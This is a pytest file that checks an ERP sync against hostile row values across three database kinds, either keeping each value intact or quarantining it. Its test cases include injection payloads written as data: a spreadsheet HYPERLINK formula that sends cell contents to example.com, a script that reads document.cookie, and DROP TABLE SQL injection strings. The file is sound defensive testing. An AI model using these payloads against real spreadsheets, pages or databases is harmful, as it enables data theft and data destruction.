"""Hostile ERP rows: each one syncs with its value intact or goes to quarantine naming its field and value.

One ERP per database kind (SQLite, PostgreSQL, MariaDB), each holding every hostile
value its columns can hold, one value per row beside good rows; each is synced into
both overlay kinds. Text that is merely hostile (formulas, script, SQL, control
characters, right-to-left marks, 1 MB) is stored as it is: escaping is the job of
whoever renders it. What an overlay column cannot hold (NUL, amounts that round to
10^14, infinity, NaN, impossible dates and dates outside the years 1900–2999, keys too long) goes to quarantine, on both
overlays alike. The other rows always sync, a second sync changes nothing and the
quarantine does not grow, and the metrics run on what was synced.
"""

from __future__ import annotations

import math
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from sqlalchemy.dialects import mysql
from sqlalchemy.pool import NullPool

from erp_crm.settings.root import Settings
from tests.support.mini_erp import mini_settings, overlay_rows, quarantined
from tests.support.services import run_metrics, run_sync

CONNECTOR = """\
name: mini
entities:
  partner:
    table: soc
    key: rowid
    fields: {name: nom, created_at: created}
  product:
    table: prod
    key: ref
    fields: {name: label, kind: {column: typ, map: {0: goods, 1: service}}}
  invoice:
    table: fac
    key: rowid
    fields: {partner: fk_soc, date: datef, due_date: due, number: ref, amount_net: total_ht, amount_total: total_ttc}
  invoice_line:
    table: facdet
    key: rowid
    fields: {invoice: fk_facture, product: fk_product, description: descr, quantity: qty}
"""

_TEXT = sa.Text().with_variant(mysql.LONGTEXT(), "mysql")
_KEY = sa.String(400)
_NUMBER = sa.Numeric().with_variant(mysql.DECIMAL(65, 20), "mysql")
metadata = sa.MetaData()
TABLES = {
    "partner": sa.Table("soc", metadata, sa.Column("rowid", sa.Integer, primary_key=True, autoincrement=False), sa.Column("nom", _TEXT), sa.Column("created", sa.DateTime)),
    "product": sa.Table("prod", metadata, sa.Column("ref", _KEY), sa.Column("label", _TEXT), sa.Column("typ", sa.Integer)),
    "invoice": sa.Table(
        "fac",
        metadata,
        sa.Column("rowid", sa.Integer, primary_key=True, autoincrement=False),
        sa.Column("fk_soc", sa.Integer),
        sa.Column("datef", sa.Date),
        sa.Column("due", _TEXT),
        sa.Column("ref", _TEXT),
        sa.Column("total_ht", _NUMBER),
        sa.Column("total_ttc", sa.Double),
    ),
    "invoice_line": sa.Table(
        "facdet",
        metadata,
        sa.Column("rowid", sa.Integer, primary_key=True, autoincrement=False),
        sa.Column("fk_facture", sa.Integer),
        sa.Column("fk_product", _KEY),
        sa.Column("descr", _TEXT),
        sa.Column("qty", _NUMBER),
    ),
}
KEYS = {"partner": "rowid", "product": "ref", "invoice": "rowid", "invoice_line": "rowid"}


def good_row(entity: str, n: int) -> dict[str, Any]:
    """A row of `entity` that syncs; number `n` keys it."""
    return {
        "partner": {"rowid": n, "nom": f"Partner {n}", "created": datetime(2024, 1, 1, 10)},
        "product": {"ref": f"P{n}", "label": f"Product {n}", "typ": 0},
        "invoice": {"rowid": n, "fk_soc": 1, "datef": date(2024, 3, 1), "due": None, "ref": f"F{n}", "total_ht": Decimal("10.5"), "total_ttc": 12.7},
        "invoice_line": {"rowid": n, "fk_facture": 1, "fk_product": "P1", "descr": "line", "qty": Decimal(1)},
    }[entity]


SQLITE, PG, MARIADB = "sqlite", "postgresql", "mysql"
EVERY = (SQLITE, PG, MARIADB)
STORED = object()  # the overlay holds the value as the ERP gave it


@dataclass(frozen=True)
class Refused:
    """Quarantined: the reason starts with the field and shows the value as one of these."""

    shown: tuple[str, ...]


def refused(*shown: str) -> Refused:
    return Refused(shown)


@dataclass(frozen=True)
class Hostile:
    name: str
    entity: str
    column: str
    field: str  # the canonical field, or "key"
    value: Any  # a value, {database: value}, or SQL text (sa.literal_column) where a parameter cannot say it
    expect: Any = STORED  # STORED, a Refused, or the value the overlay holds when it is not the ERP's as it is
    erps: tuple[str, ...] = EVERY  # the ERPs whose columns can hold the value

    def value_on(self, erp: str) -> Any:
        return self.value.get(erp) if isinstance(self.value, dict) else self.value


def sql(text: str) -> Any:
    return sa.literal_column(text)


NOT_A_DATE = refused("not a date")
CASES = [
    # text that is merely hostile is kept as it is
    Hostile("formula", "invoice", "ref", "number", '=HYPERLINK("http://example.com/?"&A1,"Kattintson")'),
    Hostile("script", "invoice", "ref", "number", "<script>alert(document.cookie)</script>"),
    Hostile("sql", "invoice", "ref", "number", "'; DROP TABLE crm_invoice; --"),
    Hostile("1 MB of text", "invoice", "ref", "number", "Ő" * 500_000),
    Hostile("emoji", "invoice", "ref", "number", "👩‍👩‍👧 🎉 Kft."),
    Hostile("right to left", "invoice", "ref", "number", "שלום \u202eabc\u202c مرحبا"),
    Hostile("control characters", "invoice", "ref", "number", "\x01\x07\x1b[31m\t\r\n\x7f\u200b"),
    Hostile("nul in text", "invoice", "ref", "number", "A\x00B", refused("'A\\x00B'"), (SQLITE, MARIADB)),
    Hostile("broken encoding", "invoice", "ref", "number", sql("CAST(X'4B6F76E16373' AS TEXT)"), refused("b'Kov\\xe1cs'"), (SQLITE,)),
    # amounts: NUMERIC(18, 4) in the overlay
    Hostile("10^14", "invoice", "total_ht", "amount_net", Decimal("1E+14"), refused("100000000000000", "1E+14")),
    Hostile("10^20", "invoice", "total_ht", "amount_net", Decimal("1E+20"), refused("100000000000000000000", "1E+20", "1e+20")),
    Hostile("-10^14", "invoice", "total_ht", "amount_net", Decimal("-1E+14"), refused("-100000000000000", "-1E+14")),
    Hostile("rounds to 10^14", "invoice", "total_ht", "amount_net", Decimal("99999999999999.99995"), refused("99999999999999.99995", "100000000000000")),
    Hostile("largest amount", "invoice", "total_ht", "amount_net", Decimal("99999999999999.9999"), erps=(PG, MARIADB)),
    Hostile("largest amount as a float", "invoice", "total_ht", "amount_net", Decimal("99999999999999.98")),  # SQLite's REAL rounds .9999 up to 10^14
    Hostile("tiny amount", "invoice", "total_ht", "amount_net", Decimal("1E-10")),
    Hostile("negative zero", "invoice", "total_ht", "amount_net", Decimal("-0")),
    Hostile("NaN", "invoice", "total_ht", "amount_net", {PG: Decimal("NaN"), SQLITE: sql("'NaN'")}, refused("NaN"), (SQLITE, PG)),
    Hostile("infinity", "invoice", "total_ht", "amount_net", {PG: Decimal("Infinity"), SQLITE: math.inf}, refused("Infinity", "inf"), (SQLITE, PG)),
    Hostile("-infinity", "invoice", "total_ht", "amount_net", {PG: Decimal("-Infinity"), SQLITE: -math.inf}, refused("-Infinity", "-inf"), (SQLITE, PG)),
    Hostile("float infinity", "invoice", "total_ttc", "amount_total", math.inf, refused("inf"), (SQLITE, PG)),
    Hostile("float NaN", "invoice", "total_ttc", "amount_total", math.nan, refused("nan"), (PG,)),
    Hostile("float 1e300", "invoice", "total_ttc", "amount_total", 1e300, refused("1e+300")),
    Hostile("float 1e-300", "invoice", "total_ttc", "amount_total", 1e-300),
    Hostile("float negative zero", "invoice", "total_ttc", "amount_total", -0.0),
    # dates in date columns
    Hostile("date infinity", "invoice", "datef", "date", sql("'infinity'"), refused("'infinity'"), (PG,)),
    Hostile("date -infinity", "invoice", "datef", "date", sql("'-infinity'"), refused("'-infinity'"), (PG,)),
    Hostile("date BC", "invoice", "datef", "date", sql("'0044-03-15 BC'"), refused("BC"), (PG,)),
    Hostile("30 February", "invoice", "datef", "date", sql("'2024-02-30'"), refused("'2024-02-30'"), (SQLITE, MARIADB)),
    Hostile("zero date", "invoice", "datef", "date", sql("'0000-00-00'"), refused("'0000-00-00'"), (SQLITE, MARIADB)),
    Hostile("25:61 in a date", "invoice", "datef", "date", sql("'2024-01-01 25:61:00'"), refused("'2024-01-01 25:61:00'"), (SQLITE,)),
    Hostile("last day", "invoice", "datef", "date", date(9999, 12, 31), refused("outside the years 1900–2999")),
    Hostile("first day", "invoice", "datef", "date", date(1, 1, 1), refused("outside the years 1900–2999"), erps=(SQLITE, PG)),
    Hostile("the battle of Hastings", "invoice", "datef", "date", date(1066, 10, 14), refused("outside the years 1900–2999")),
    Hostile("last day a record can have", "invoice", "datef", "date", date(2999, 12, 31)),
    Hostile("first day a record can have", "invoice", "datef", "date", date(1900, 1, 1)),
    # dates kept as text
    Hostile("25:61 as text", "invoice", "due", "due_date", "2024-01-01 25:61:00", refused("'2024-01-01 25:61:00'")),
    Hostile("30 February as text", "invoice", "due", "due_date", "2024-02-30", refused("'2024-02-30'")),
    Hostile("month 13 as text", "invoice", "due", "due_date", "2024-13-01", refused("'2024-13-01'")),
    Hostile("sql after a date", "invoice", "due", "due_date", "2024-02-28'; DROP TABLE fac; --", refused("DROP TABLE fac")),
    Hostile("date and offset as text", "invoice", "due", "due_date", "2024-02-29T23:30:00+02:00", date(2024, 2, 29)),
    Hostile("zero date as text", "invoice", "due", "due_date", "0000-00-00", None),  # MySQL's "no date", for an optional field
    # date and time columns
    Hostile("timestamp infinity", "partner", "created", "created_at", sql("'infinity'"), refused("'infinity'"), (PG,)),
    Hostile("25:61 in a timestamp", "partner", "created", "created_at", sql("'2024-01-01 25:61:00'"), refused("'2024-01-01 25:61:00'"), (SQLITE,)),
    Hostile("last second", "partner", "created", "created_at", datetime(9999, 12, 31, 23, 59, 59), refused("outside the years 1900–2999")),
    Hostile("last second a record can have", "partner", "created", "created_at", datetime(2999, 12, 31, 23, 59, 59)),
    # a value the definition's map does not know is shown as it is
    Hostile("unmapped value", "product", "typ", "kind", 7, refused("unknown value: add it to the map or give a default (7)")),
    # keys and references: VARCHAR(200) in the overlay
    Hostile("key too long", "product", "ref", "key", "K" * 300, refused("a key longer than 200")),
    Hostile("nul in a key", "product", "ref", "key", "K\x00Q", refused("'K\\x00Q'"), (SQLITE, MARIADB)),
    Hostile("emoji key", "product", "ref", "key", "תמר-🎉"),
    Hostile("sql key", "product", "ref", "key", "'; DROP TABLE prod; --"),
    Hostile("reference too long", "invoice_line", "fk_product", "product", "R" * 300, refused("a key longer than 200")),
    Hostile("nul in a reference", "invoice_line", "fk_product", "product", "R\x00", refused("'R\\x00'"), (SQLITE, MARIADB)),
]
GOOD_ROWS = 3  # good rows per entity, numbered 1..3; hostile rows are numbered from 100


def hostile_row(n: int, case: Hostile, erp: str) -> dict[str, Any]:
    row = good_row(case.entity, n)
    row[case.column] = case.value_on(erp)
    return row


def erp_key(n: int, case: Hostile, erp: str) -> str:
    row = hostile_row(n, case, erp)
    return str(row[KEYS[case.entity]])


def build_erp(url: str) -> str:
    """The ERP: good rows, then each hostile row its database can hold."""
    engine = sa.create_engine(url, poolclass=NullPool)
    metadata.create_all(engine)
    erp = engine.dialect.name
    with engine.begin() as conn:
        if erp == MARIADB:
            conn.exec_driver_sql("SET SESSION sql_mode = 'ALLOW_INVALID_DATES'")  # ERPs run with looser modes than the tests' server
        for entity, table in TABLES.items():
            conn.execute(sa.insert(table), [good_row(entity, n) for n in range(1, GOOD_ROWS + 1)])
        for n, case in enumerate(CASES, start=100):
            if erp in case.erps:
                conn.execute(sa.insert(TABLES[case.entity]).values(hostile_row(n, case, erp)))
    engine.dispose()
    return erp


def settings_for(tmp_path: Path, erp_url: str, overlay_url: str) -> Settings:
    """A home of the mini ERP's (overlay migrated) whose connector reads the hostile tables instead."""
    settings = mini_settings(tmp_path, overlay_url, erp_url=erp_url)
    (settings.home / "connectors" / "mini.yaml").write_text(CONNECTOR, encoding="utf-8")
    return settings


@pytest.fixture(params=EVERY, ids=["sqlite-erp", "pg-erp", "mariadb-erp"])
def erp_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == SQLITE:
        return f"sqlite:///{tmp_path / 'erp.sqlite'}"
    factory: Callable[[], str] = request.getfixturevalue("pg_url_factory" if request.param == PG else "mariadb_url_factory")
    return factory()


def same_value(got: Any, expected: Any) -> bool:
    """Equal, numbers at the overlay's 4 places (a float ERP column gives the nearest float)."""
    if isinstance(expected, (Decimal, float)) and got is not None:
        return math.isclose(float(got), float(expected), rel_tol=1e-15, abs_tol=0.00005)
    return bool(got == expected)


def overlay_column(case: Hostile) -> str:
    return {"key": "name", "product": "product_key"}.get(case.field, case.field)


def test_every_hostile_row_syncs_intact_or_is_quarantined_with_its_field_and_value(tmp_path: Path, erp_url: str, overlay_url: str) -> None:
    erp = build_erp(erp_url)
    settings = settings_for(tmp_path, erp_url, overlay_url)
    run_sync(settings, mode="full")
    held = quarantined(settings)
    problems = []
    for n, case in enumerate(CASES, start=100):
        if erp not in case.erps:
            continue
        key = erp_key(n, case, erp)
        live = overlay_rows(settings, case.entity, overlay_column(case))
        if isinstance(case.expect, Refused):
            reasons = [r for (entity, k), r in held.items() if entity == case.entity and (k == key or case.field == "key")]
            if key in live:
                problems.append(f"{case.name}: stored, but should be quarantined")
            elif not any(r.startswith(f"{case.field}: ") and any(s in r for s in case.expect.shown) for r in reasons):
                problems.append(f"{case.name}: no quarantine entry naming {case.field} and {case.expect.shown}: {reasons}")
        else:
            expected = case.value_on(erp) if case.expect is STORED else case.expect
            if case.field == "key":
                expected, key = good_row("product", n)["label"], case.value_on(erp)
            if key not in live:
                problems.append(f"{case.name}: not stored ({held.get((case.entity, key), 'not in quarantine either')})")
            elif not same_value(live[key][0], expected):
                problems.append(f"{case.name}: stored as {str(live[key][0])[:60]!r}, not {str(expected)[:60]!r}")
    assert not problems, "\n".join(problems)
    assert not any("object at 0x" in r for r in held.values())
    refused_here = sum(1 for c in CASES if erp in c.erps and isinstance(c.expect, Refused))
    assert len(held) == refused_here, f"only the hostile rows are quarantined: {sorted(held)}"
    for entity in TABLES:
        good = {str(good_row(entity, n)[KEYS[entity]]) for n in range(1, GOOD_ROWS + 1)}
        assert good <= set(overlay_rows(settings, entity)), f"the good {entity} rows sync"

    again = run_sync(settings)
    assert {e: (c.inserted, c.updated, c.quarantined) for e, c in again.entities.items()} == {
        e: (0, 0, c.quarantined) for e, c in again.entities.items()
    }, "a second sync changes nothing"
    assert quarantined(settings) == held, "and the quarantine neither grows nor changes"
    run_metrics(settings)  # nothing that was stored breaks the figures
